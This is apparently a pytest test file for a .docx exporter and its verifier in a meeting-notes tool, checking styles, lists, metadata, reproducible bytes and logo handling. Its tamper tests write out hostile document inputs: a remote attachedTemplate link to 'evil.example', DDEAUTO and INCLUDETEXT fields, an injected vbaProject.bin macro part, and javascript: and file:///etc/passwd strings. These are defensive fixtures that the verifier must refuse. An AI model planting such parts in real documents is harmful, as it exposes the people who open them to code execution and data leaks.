"""A document as a Word file: what a word processor finds in it, the same bytes always, and refused where it does
not read back."""

import io
import struct
import subprocess
import sys
import zipfile
import zlib
from pathlib import Path
from typing import Any

import docx as python_docx
import pytest
from msgspec.structs import replace

from codesign.digests import digest
from exports.docx.picture import HIGHEST, WIDEST, pixels, placed
from exports.docx.verify import verify_docx
from exports.docx.writer import docx
from exports.files import Outcome, save
from exports.formats import MissingExtra, packed
from exports.review.docx import read_docx
from exports.tree import Blanks, Boxes, Document, Emblem, Heading, PageBreak, Paragraph, Table, Ticks
from exports.verify import NotVerified
from tests.support.word import SENT, replaced, unpacked

ROOT = Path(__file__).parent.parent.parent
PAGE = "word/document.xml"
TEMPLATE = '<Relationship Id="x" Type="t/attachedTemplate" Target="http://evil.example" TargetMode="External"/>'


def opened(document: Document) -> Any:
    return python_docx.Document(io.BytesIO(docx(document)))


def styles(document: Document) -> list[tuple[str, str]]:
    return [(each.style.name, each.text) for each in opened(document).paragraphs if each.text]


def test_a_word_processor_finds_its_own_headings_and_lists() -> None:
    found = styles(SENT)
    assert found[0] == ("Title", "River Clean-up: meeting notes, Spring workshop")
    assert ("Heading 1", "Commitments") in found
    assert ("Heading 2", "Do better") in found
    assert ("List Bullet", "Place: Boat house") in found
    assert ("Numbered Item", "V3 “Nobody told us that the ramp was gone.”") in found
    assert ("Tick Item", "☐\tC12 Write to the school about the survey") in found
    assert ("Tick Item", "☑\tC14 Count the steps to the hall") in found
    assert ("Tick Field", "Who: town planner") in found
    assert found[-1] == ("Export Reference", "Export reference: 2026-11-21-7f3a")


def test_every_style_of_the_page_is_there() -> None:
    sheets = Blanks(("T1-1",), (Boxes("Said by", ("by name",)),))
    document = replace(SENT, blocks=(*SENT.blocks, sheets, Ticks((("Chairs", False),)), Heading(4, "deep")))
    file = opened(document)
    known = {each.style_id for each in file.styles}
    used = {each.pPr.pStyle.val for each in file.element.iter("{*}p")}
    assert used <= known


def test_lists_have_levels_that_are_real() -> None:
    file = opened(SENT)
    numbering = {
        (style, each.get_or_add_pPr().numPr.ilvl.val, each.get_or_add_pPr().numPr.numId.val)
        for style in ("List Bullet", "Numbered Item", "Numbered Field", "Tick Item", "Tick Field")
        for each in (file.styles[style].element,)
    }
    assert numbering == {
        ("List Bullet", 0, 1),
        ("Numbered Item", 0, 2),
        ("Numbered Field", 1, 2),
        ("Tick Item", 0, 3),
        ("Tick Field", 1, 3),
    }
    lists = file.part.numbering_part.element
    assert [each.numId for each in lists.num_lst] == [1, 2, 3]


def test_numbers_are_bold_and_the_words_are_not() -> None:
    (item,) = (each for each in opened(SENT).paragraphs if "C12 Write" in each.text)
    assert [(run.text, run.bold) for run in item.runs] == [
        ("☐\t", None),
        ("C12", True),
        (" Write to the school about the survey", None),
    ]


def test_the_heads_of_a_table_stand_again_on_every_sheet() -> None:
    (table,) = opened(SENT).tables
    assert [[cell.text for cell in row.cells] for row in table.rows] == [
        ["Sector", "People"],
        ["municipal", "4"],
        ["school", "3"],
    ]
    assert [row._tr.trPr.find("{*}tblHeader") is not None for row in table.rows] == [True, False, False]
    assert table.style.name == "Table Grid"


def test_what_a_document_says_about_itself_stands_in_the_properties_of_its_file() -> None:
    properties = opened(SENT).core_properties
    assert (properties.title, properties.language, properties.author) == (SENT.title, "en", "")
    assert properties.created.isoformat() == properties.modified.isoformat() == "2026-11-21T00:00:00+00:00"
    custom = unpacked(docx(SENT))["docProps/custom.xml"].decode()
    assert 'name="codesign-audience"><vt:lpwstr>partners</vt:lpwstr>' in custom
    assert 'name="codesign-reference"><vt:lpwstr>2026-11-21-7f3a</vt:lpwstr>' in custom


def test_its_words_are_spelled_in_its_language() -> None:
    assert b'<w:lang w:val="fr"' in unpacked(docx(replace(SENT, language="fr")))["word/styles.xml"]


def test_what_reviewers_change_is_marked_where_it_finds_its_way_back() -> None:
    assert b"trackRevisions" in unpacked(docx(SENT))["word/settings.xml"]
    page = Document("Run sheet", "en", (), (Paragraph("words"),))
    assert b"trackRevisions" not in unpacked(docx(page))["word/settings.xml"]


def test_addresses_are_links_to_themselves_and_nothing_else_is() -> None:
    text = "see https://example.org/?a=1&b=2 or write to a@example.org, javascript:alert(1), file:///etc/passwd"
    document = Document("Links", "en", (), (Paragraph(text),))
    links = unpacked(docx(document))["word/_rels/document.xml.rels"].decode()
    assert links.count('TargetMode="External"') == 2
    assert 'Target="https://example.org/?a=1&amp;b=2"' in links
    assert 'Target="mailto:a@example.org"' in links
    verify_docx(document, docx(document))


@pytest.mark.parametrize(
    ("blocks", "breaks"),
    [
        ((Paragraph("one"), PageBreak(), Heading(2, "two")), 1),
        ((Paragraph("one"), PageBreak(), Table(("a",), (("b",),))), 1),
        ((Paragraph("one"), PageBreak(), PageBreak(), Paragraph("two")), 2),
        ((Paragraph("one"), PageBreak()), 1),
    ],
)
def test_another_sheet_begins_where_it_should(blocks: tuple[Any, ...], breaks: int) -> None:
    document = Document("Sheets", "en", (), blocks)
    data = docx(document)
    assert unpacked(data)[PAGE].count(b"pageBreakBefore") == breaks
    verify_docx(document, data)


def test_the_same_tree_makes_the_same_bytes() -> None:
    data = docx(SENT)
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        assert {each.date_time for each in archive.infolist()} == {(1980, 1, 1, 0, 0, 0)}
        names = archive.namelist()
    assert names == sorted(names)
    script = "import hashlib; from exports.docx.writer import docx; from tests.support.word import SENT; "
    script += "print(hashlib.sha256(docx(SENT)).hexdigest())"
    told = {
        subprocess.run(
            [sys.executable, "-c", script],
            env={"PYTHONHASHSEED": seed, "TZ": zone, "PYTHONPATH": str(ROOT)},
            capture_output=True,
            text=True,
            check=True,
            timeout=60,
        ).stdout.strip()
        for seed, zone in (("1", "UTC"), ("2", "Pacific/Auckland"))
    }
    assert told == {digest(data)}


def test_it_holds_nothing_of_a_sample_and_nobody_s_name() -> None:
    files = unpacked(docx(SENT))
    assert not any("thumbnail" in name or "theme" in name or "customXml" in name for name in files)
    assert b"python-docx" not in b"".join(files.values())
    assert b"rsid" not in b"".join(files.values())


@pytest.mark.parametrize(
    ("name", "meant", "broken"),
    [
        (PAGE, '<w:t xml:space="preserve">C12</w:t>', "<w:t>C21</w:t>"),
        (PAGE, "Boat house", "Boathouse"),
        (PAGE, "☑", "☐"),
        (PAGE, '<w:pStyle w:val="Heading1"/>', '<w:pStyle w:val="Heading2"/>'),
        (PAGE, '<w:pStyle w:val="TickField"/>', '<w:pStyle w:val="TickItem"/>'),
        (PAGE, '<w:pStyle w:val="BodyText"/>', '<w:pStyle w:val="Unknown"/>'),
        (PAGE, "<w:tblHeader/>", ""),
        (PAGE, "<w:rPr><w:b/></w:rPr>", ""),
        (PAGE, "<w:rPr><w:b/></w:rPr>", "<w:rPr><w:b/><w:vanish/></w:rPr>"),
        (PAGE, "<w:tbl>", "<w:p/><w:tbl>"),
        (PAGE, "<w:tbl>", "<w:sdt/><w:tbl>"),
        (PAGE, "</w:p>", '<w:fldSimple w:instr=" INCLUDETEXT x "/></w:p>'),
        (PAGE, "</w:p>", "<w:r><w:instrText>DDEAUTO</w:instrText></w:r></w:p>"),
        (PAGE, "</w:p>", '<w:hyperlink r:id="rId9"><w:r><w:t/></w:r></w:hyperlink></w:p>'),
        (PAGE, "</w:p>", "<w:ins><w:r><w:t>more</w:t></w:r></w:ins></w:p>"),
        ("word/styles.xml", '<w:lang w:val="en"', '<w:lang w:val="fr"'),
        ("word/footer1.xml", " NUMPAGES ", " INCLUDETEXT "),
        ("docProps/core.xml", "River", "Lake"),
        ("docProps/custom.xml", "partners", "public"),
        ("word/_rels/document.xml.rels", "</Relationships>", f"{TEMPLATE}</Relationships>"),
    ],
)  # fmt: skip
def test_a_file_that_does_not_read_back_is_refused(name: str, meant: str, broken: str) -> None:
    data = docx(SENT)
    verify_docx(SENT, data)
    with pytest.raises(NotVerified):
        verify_docx(SENT, replaced(data, name, meant, broken))


def test_a_part_that_nobody_asked_for_is_refused() -> None:
    buffer = io.BytesIO(docx(SENT))
    with zipfile.ZipFile(buffer, "a") as archive:
        archive.writestr("word/vbaProject.bin", b"x")
    with pytest.raises(NotVerified, match="vbaProject"):
        verify_docx(SENT, buffer.getvalue())


def test_without_the_extra_it_says_how_to_get_it(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.delitem(sys.modules, "exports.docx.writer", raising=False)
    monkeypatch.setitem(sys.modules, "docx", None)
    with pytest.raises(MissingExtra, match=r"pipx install 'codesign-session-board\[docx\]'"):
        packed(SENT)


def test_line_ends_count_in_a_file_that_is_no_text(tmp_path: Path) -> None:
    save(tmp_path, "a.docx", b"PK\x00\n", frozenset())
    assert save(tmp_path, "a.docx", b"PK\x00\r\n", frozenset())[0] is Outcome.BESIDE


# The logo at the head


def png(wide: int, high: int) -> bytes:
    """Return a picture of one colour."""

    def chunk(name: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + name + data + struct.pack(">I", zlib.crc32(name + data))

    head = struct.pack(">IIBBBBB", wide, high, 8, 2, 0, 0, 0)
    rows = zlib.compress((b"\0" + b"\x0b\x6a\x3c" * wide) * high)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", rows) + chunk(b"IEND", b"")


def jpeg(wide: int, high: int) -> bytes:
    """Return the head of a picture, as far as its size."""
    comment = b"\xff\xfe" + struct.pack(">H", 6) + b"\xff\xc0ab"
    size = b"\xff\xff\xc2" + struct.pack(">HBHHB", 11, 8, high, wide, 1)
    return b"\xff\xd8" + comment + b"\xff\x01" + size + bytes(3)


TREES = Emblem("image/png", png(300, 100), 'Three trees & a "river" <b>')
WITH_LOGO = replace(SENT, logo=TREES)


@pytest.mark.parametrize("logo", [TREES, Emblem("image/jpeg", jpeg(100, 300), "Three trees")])
def test_a_logo_stands_before_the_title_in_its_proportions(logo: Emblem) -> None:
    document = replace(SENT, logo=logo)
    file = opened(document)
    assert [each.style.name for each in file.paragraphs[:2]] == ["Body Text", "Title"]
    (shape,) = file.inline_shapes
    (image,) = (each.target_part for each in file.part.rels.values() if each.reltype.endswith("/image"))
    assert (image.blob, image.content_type) == (logo.data, logo.kind)
    assert shape._inline.docPr.get("descr") == logo.alt
    wide, high = pixels(logo.data)
    assert shape.width / shape.height == pytest.approx(wide / high, rel=1e-5)
    assert shape.width.cm <= 4
    assert shape.height.cm <= 2
    verify_docx(document, docx(document))


def test_its_words_are_those_of_the_document_still() -> None:
    assert docx(WITH_LOGO) == docx(WITH_LOGO)
    assert read_docx(docx(WITH_LOGO)) == read_docx(docx(SENT))
    assert "word/media/logo.png" not in unpacked(docx(SENT))


@pytest.mark.parametrize(
    ("size", "on_the_page"),
    [
        ((200, 100), (WIDEST, HIGHEST)),
        ((400, 100), (WIDEST, HIGHEST // 2)),
        ((100, 100), (HIGHEST, HIGHEST)),
        ((1, 4_000_000_000), (1, HIGHEST)),
        ((4_000_000_000, 1), (WIDEST, 1)),
    ],
)
def test_a_logo_is_as_large_as_it_may_be(size: tuple[int, int], on_the_page: tuple[int, int]) -> None:
    assert placed(size) == on_the_page


@pytest.mark.parametrize("data", [png(3, 2), jpeg(3, 2)])
def test_a_picture_that_ends_too_early_is_taken_for_a_square(data: bytes) -> None:
    assert pixels(data) == (3, 2)
    assert {pixels(data[:length]) for length in range(16)} == {(1, 1)}
    assert pixels(data.replace(b"\x02", b"\x00")) == (1, 1)


@pytest.mark.parametrize(
    ("name", "meant", "broken"),
    [
        (PAGE, "Three trees", "Two trees"),
        (PAGE, 'cx="1440000"', 'cx="9440000"'),
        (PAGE, "<a:blip ", '<a:blip r:link="rId3" '),
        (
            "word/_rels/document.xml.rels",
            'Target="media/logo.png"',
            'Target="media/logo.png" TargetMode="External"',
        ),
        ("word/_rels/document.xml.rels", 'Target="media/logo.png"', 'Target="footer1.xml"'),
    ],
)
def test_another_picture_than_was_meant_is_refused(name: str, meant: str, broken: str) -> None:
    data = docx(WITH_LOGO)
    with pytest.raises(NotVerified):
        verify_docx(WITH_LOGO, replaced(data, name, meant, broken))
    with pytest.raises(NotVerified):
        verify_docx(SENT, data)
    with pytest.raises(NotVerified):
        verify_docx(replace(SENT, logo=replace(TREES, data=png(300, 101))), data)
